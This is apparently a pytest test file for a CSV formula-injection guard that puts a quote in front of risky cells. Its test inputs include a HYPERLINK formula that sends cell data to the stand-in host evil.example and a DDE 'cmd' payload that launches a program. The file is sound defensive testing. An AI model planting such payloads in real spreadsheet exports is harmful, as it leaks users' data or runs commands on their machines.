"""services/common/csvsafe.py: no CSV cell runs as a spreadsheet formula."""

import csv
import io

import pytest

from services.common import csvsafe


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
        "+33 1 23 45 67 89",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "=cmd|' /C calc'!A0",
    ],
)
def test_a_cell_that_would_start_a_formula_gets_a_quote_in_front(cell):
    assert csvsafe.safe_cell(cell) == "'" + cell


@pytest.mark.parametrize(
    "cell", ["Besançon", "Parthenay-Gâtine", "", " =not first", "'=already", 5, -3, 2.5, None]
)
def test_anything_else_is_written_as_it_is(cell):
    assert csvsafe.safe_cell(cell) == cell


def test_neutralising_twice_adds_one_quote():
    once = csvsafe.safe_cell("=1+1")
    assert csvsafe.safe_cell(once) == once == "'=1+1"


def test_the_writer_neutralises_every_row_and_keeps_csv_options():
    out = io.StringIO()
    writer = csvsafe.writer(out, lineterminator="\r\n")
    writer.writerow(["nom", "arobases"])
    writer.writerows([['=HYPERLINK("http://x")', 4], ["Grenoble", -1]])
    assert out.getvalue().endswith("\r\n")
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["nom", "arobases"],
        ['\'=HYPERLINK("http://x")', "4"],
        ["Grenoble", "-1"],
    ]
